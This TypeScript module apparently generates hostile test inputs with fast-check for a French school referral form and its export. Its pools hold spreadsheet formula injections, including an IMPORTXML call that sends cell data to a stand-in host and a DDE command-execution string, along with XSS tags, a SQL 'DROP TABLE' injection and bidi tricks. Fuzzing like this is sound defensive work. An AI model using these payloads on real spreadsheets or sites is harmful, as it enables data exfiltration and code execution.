// What a school, a joker or a clumsy paste may put in a field of the Form: pieces, and the texts made of them.
import fc from 'fast-check';

const FORMULES = ['=1+1', '=IMPORTXML("https://mal.example/"&A1,"//a")', '=HYPERLINK("https://mal.example","clic")', '+33 6 00 00 00 00', '-1+1', '@import', "'=1+1", "''", "'", '\t=1+1', '\r=1+1', '=', '+', '-', '@', '＝1+1', "=cmd|' /C calc'!A0", '{=1}', '=ARRAYFORMULA(A:A)', ';=1+1', '\n=1+1']; // oxfmt-ignore
const NOMBRES = ['00123', '1e5', '1/2', '12/03/2010', '2010-03-12', '1,5', 'VRAI', 'TRUE', 'FALSE', '#REF!', '#N/A', '0x10', 'NaN', 'Infinity', '50 %', '09:30', '1 000', '-0', '1e999']; // oxfmt-ignore
const INDISCRETIONS = ['L’élève Nolan Brevor', 'élève KELIMBO', 'Mme Thazandry', 'né le 12/03/2011', '12 mars 2012', '06 12 34 56 78', '+33612345678', 'INE 123456789AB', '1234567890A', 'diagnostiqué autiste', 'TDAH', 'sous Ritaline', 'famille@courriel.example', 'les parents de Maëlys', 'suivi par le Dr Orymbo']; // oxfmt-ignore
const INVISIBLES = ['\u200b', '\u200d', '\u202e', '\u202a', '\u2066', '\ufeff', '\u00ad', '\u2028', '\u2029', '\u0085', '\u0000', '\u0007', '\u001f', '\u007f', '\ufffd', '\uffff', '\u00a0', '\u202f', '\u3000']; // oxfmt-ignore
const ECRITURES = ['👩‍👧‍👦', '🙂', '🏳️‍🌈', 'مرحبا', 'שלום', '中文', 'e\u0301', 'Z\u0351\u036b\u0343', '\u0301\u0301', '\ud83d', '\ude42', '\udc00\ud800', 'ﬁ', 'İ', 'ß', 'ŉ', '𝒜', '١٢٣']; // oxfmt-ignore
const BALISES = ['<script>alert(1)</script>', '</td></table>', '"><img src=x onerror=alert(1)>', '<b>', '&amp;', '&#0;', '<!--', ']]>', '{{nom}}', '${x}', '<%= x %>', '%s %n', '$1', '$&', '\\n', '[lien](javascript:x)', "'; DROP TABLE demandes;--"]; // oxfmt-ignore
/** Words the machine itself writes or looks for. */
const DU_POLE = ['2018-P1-001', '2018-P1-0042', ' : ', ' ; ', ';', ' → ', '…', '« »', 'Fratrie : Renard 2', 'Code d’un frère : Mésange 4', 'Réponse modifiée par l’école le 3/10/2018.', 'Adresse à vérifier', 'Doublon possible', 'Le texte semble contenir', 'Complément', '[pole:statut]', 'À trier', 'oui', 'Non', 'Aucun', 'Tout autre motif', '[suite dans la réponse au formulaire]']; // oxfmt-ignore
const DU_LANGAGE = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'undefined', 'null', '[object Object]']; // oxfmt-ignore
const FLOTS = ['\n'.repeat(80), '\r\n'.repeat(40), ' '.repeat(120), 'mot '.repeat(90), 'W'.repeat(400), 'é'.repeat(310), '=A1+'.repeat(60), '🙂'.repeat(160), '\t'.repeat(50)]; // oxfmt-ignore
const ORDINAIRES = ['Refuse d’entrer en classe.', 'Depuis la rentrée', 'trois à quatre fois par jour', 'en lecture', 'l’équipe', ' ', '\n', ', ', '. ', 'Mésange 4']; // oxfmt-ignore

const SORTES = [FORMULES, NOMBRES, INDISCRETIONS, INVISIBLES, ECRITURES, BALISES, DU_POLE, DU_LANGAGE, ORDINAIRES];

const morceau = fc.oneof(
  ...SORTES.map((sorte) => ({ weight: 6, arbitrary: fc.constantFrom(...sorte) })),
  { weight: 1, arbitrary: fc.constantFrom(...FLOTS) },
  { weight: 3, arbitrary: fc.nat({ max: 0xffff }).map((unite) => String.fromCharCode(unite)) },
);

/** The Form takes 50,000 signs and more once somebody has removed its limits. */
const sansFin = fc
  .tuple(fc.constantFrom('a', 'é ', '=1+1\n', '🙂', 'mot à mot, '), fc.constantFrom(7_998, 8_001, 30_000, 50_001, 70_000))
  .map(([motif, taille]) => motif.repeat(Math.ceil(taille / motif.length)).slice(0, taille)); // oxfmt-ignore

/** Any text, nothing included. */
export const texteHostile: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: fc.array(morceau, { maxLength: 5 }).map((morceaux) => morceaux.join('')) },
  { weight: 6, arbitrary: fc.array(morceau, { maxLength: 4 }).map((morceaux) => morceaux.join(' ')) },
  { weight: 10, arbitrary: fc.constant('') },
  { weight: 1, arbitrary: sansFin },
);

/** What the Form takes for an address, or not once its limits are gone. */
export const adresseHostile: fc.Arbitrary<string> = fc.constantFrom(
  'tilleuls@ecoles.example.org', 'TILLEULS@Ecoles.Example.ORG', 'tilleuls@ecoles.exemple.org', 'quelqu.un@courriel.example',
  'deux..points@courriel.example', '.point@courriel.example', 'point.@courriel.example', "o'brien@courriel.example",
  '=cmd@courriel.example', '+33@courriel.example', '-x@courriel.example', "'x@courriel.example", 'é@école.example',
  'a&b@courriel.example', 'a@x_y.example', 'a@-x.example', `${'x'.repeat(180)}@courriel.example`,
  'cache\u200b@courriel.example', '\u202egro.elpmaxe@courriel.example', '🙂@courriel.example', 'a|b@courriel.example', 'a@b.c',
); // oxfmt-ignore

export const pasUneAdresse: fc.Arbitrary<string> = fc.constantFrom(
  'pas une adresse', 'un@courriel.example, deux@courriel.example', 'un@courriel.example;deux@courriel.example',
  'Nom <un@courriel.example>', '@', '=1+1', '06 12 34 56 78', '"', 'un@courriel.example\u2028Cc: deux@courriel.example',
); // oxfmt-ignore
